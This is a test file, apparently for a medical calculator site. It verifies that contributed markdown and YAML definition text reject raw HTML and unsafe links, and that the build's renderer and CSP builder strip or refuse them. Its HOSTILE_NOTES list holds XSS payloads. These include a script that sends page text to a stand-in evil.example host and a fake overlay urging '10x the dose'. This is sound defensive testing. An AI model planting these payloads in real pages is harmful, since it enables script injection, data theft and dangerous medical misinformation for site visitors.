/**
 * Hostile definition text (issue 15, finding 2): `check` refuses raw HTML and javascript:/data: links
 * in notes.md and in any string of calculator.yaml / cases.yaml, with file and line; the markdown
 * renderer drops raw HTML and unsafe links whatever slips through; the CSP builder refuses to hash
 * inline code that came from calculators/.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { unified } from 'unified';
import remarkParse from 'remark-parse';
import remarkRehype from 'remark-rehype';
import rehypeRaw from 'rehype-raw';
import rehypeStringify from 'rehype-stringify';
import { describe, expect, test } from 'vitest';
import { loadCatalog } from '../../src/definitions/load';
import { htmlInMarkdown, htmlInYaml } from '../../src/definitions/lint-html';
import { formatProblem } from '../../src/definitions/problems';
import { markdownOptions } from '../../src/integrations/markdown.mjs';
import { refuseDefinitionCode } from '../../src/integrations/csp.mjs';
import { tempCatalogue } from '../helpers';

/** Hostile notes.md bodies, each a way a contribution could put code or an overlay on the page. */
export const HOSTILE_NOTES = [
  '<script>location.href="https://evil.example/?"+document.body.innerText</script>',
  '<div style="position:fixed;inset:0;background:white">Use 10x the dose</div>',
  '[Full text](javascript:fetch("https://evil.example"))',
  '[Full text](  JaVaScRiPt:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '<img src=x onerror="alert(1)">',
  '<iframe src="https://evil.example"></iframe>',
  '<!-- hidden --> text',
  '[ref]: vbscript:msgbox(1)\n\nSee [ref].',
];

/** Markdown rendered exactly as the site's Astro markdown pipeline does, with the site's options. */
async function render(md: string): Promise<string> {
  const p = unified()
    .use(remarkParse)
    .use(remarkRehype, { ...markdownOptions.remarkRehype });
  for (const plugin of markdownOptions.rehypePlugins) p.use(plugin);
  return String(await p.use(rehypeRaw).use(rehypeStringify, { allowDangerousHtml: true }).process(md));
}

describe('check refuses hostile definition text', () => {
  test.each(HOSTILE_NOTES)('notes.md: %s', (md) => {
    const problems = htmlInMarkdown(`# Evidence\n\nSome text.\n\n${md}\n`);
    expect(problems.length).toBeGreaterThan(0);
    expect(problems[0].line).toBe(5);
  });

  test('plain markdown, autolinks, comparisons and tables pass', () => {
    const ok =
      '# Notes\n\nScore <2 is low; a < b and b > c.\n\n<https://doi.org/10.1/x> and [paper](https://example.org) and [anchor](#top) and [mail](mailto:a@b.c).\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`<script>` in code is text.\n';
    expect(htmlInMarkdown(ok)).toEqual([]);
  });

  test.each([
    [{ summary: 'Estimates <b>GFR</b>' }, 'summary', 'raw HTML'],
    [{ references: [{ cite: 'x', url: 'javascript:alert(1)' }] }, 'references.0.url', 'javascript: link'],
    [{ notes_text: 'see data:text/html;base64,PHNjcmlwdD4=' }, 'notes_text', 'data: link'],
    [{ inputs: [{ label: '<img src=x onerror=alert(1)>' }] }, 'inputs.0.label', 'raw HTML'],
  ])('yaml %j is refused at %s', (data, path, what) => {
    const [p] = htmlInYaml(data);
    expect(p.path.join('.')).toBe(path);
    expect(p.message).toContain(what);
  });

  test('formulas keep their comparisons, prose keeps "<5 mmol/L" and "Data: 2010"', () => {
    expect(htmlInYaml({ outputs: [{ formula: 'a<b ? c : d>e', where: { k: 'x < y' } }], summary: 'Lactate <5 mmol/L. Data: 2010–2015.' })).toEqual([]);
  });

  test('npm run check reports file, line, what was found and the fix, and drops the calculator', () => {
    const dir = tempCatalogue(['bmi'], 'bedside-html-');
    writeFileSync(join(dir, 'bmi', 'notes.md'), `# Notes\n\nFine.\n\n${HOSTILE_NOTES[0]}\n`);
    const yaml = readFileSync(join(dir, 'bmi', 'calculator.yaml'), 'utf8').replace(
      /^summary: .*$/m,
      'summary: "Body <span style=\\"color:red\\">mass</span> index"',
    );
    writeFileSync(join(dir, 'bmi', 'calculator.yaml'), yaml);
    const { entries, problems } = loadCatalog(dir);
    expect(entries).toEqual([]);
    const text = problems.map(formatProblem).join('\n');
    expect(text).toMatch(/calculators\/bmi\/notes\.md:5 \[html\]\n {2}\(top level\): raw HTML is not allowed in notes\.md: found "<script>/);
    expect(text).toMatch(/calculators\/bmi\/calculator\.yaml:\d+ \[html\]\n {2}summary: raw HTML is not allowed in definition text: found "<span style=/);
    expect(text).toContain('Hint: write it in markdown');
  });
});

describe('the build renders definition markdown without raw HTML', () => {
  test.each(HOSTILE_NOTES)('%s', async (md) => {
    const html = await render(md);
    expect(html).not.toMatch(/<script|<iframe|<img[^>]*onerror|style=|javascript:|vbscript:|data:|<!--/i);
  });

  test('ordinary markdown survives', async () => {
    expect(await render('**Bold** [paper](https://doi.org/10.1/x) `code`')).toBe(
      '<p><strong>Bold</strong> <a href="https://doi.org/10.1/x" rel="noreferrer">paper</a> <code>code</code></p>',
    );
  });
});

describe('the CSP builder never hashes definition text', () => {
  const texts = [`# Notes\n\n${HOSTILE_NOTES[0]}\n`];
  test('an inline script whose code is in calculators/ fails the build', () => {
    expect(() => refuseDefinitionCode(`<p>x</p>${HOSTILE_NOTES[0]}`, texts, 'dist/c/bmi/index.html')).toThrow(
      /dist\/c\/bmi\/index\.html: an inline script comes from calculators\//,
    );
  });
  test("the site's own inline code passes", () => {
    expect(() =>
      refuseDefinitionCode('<script>document.documentElement.dataset.theme="dark"</script><math style="margin-left:0.1667em">', texts),
    ).not.toThrow();
  });
});

describe('comments in notes.md', () => {
  test('an HTML comment alone is an author note (it renders as nothing); markup after it is still refused', () => {
    expect(htmlInMarkdown('<!-- for the next author -->\n\nText.')).toEqual([]);
    expect(htmlInMarkdown('<!-- x --><script>alert(1)</script>').map((p) => p.message)).toEqual([
      expect.stringMatching(/^raw HTML is not allowed in notes\.md/),
    ]);
  });
});
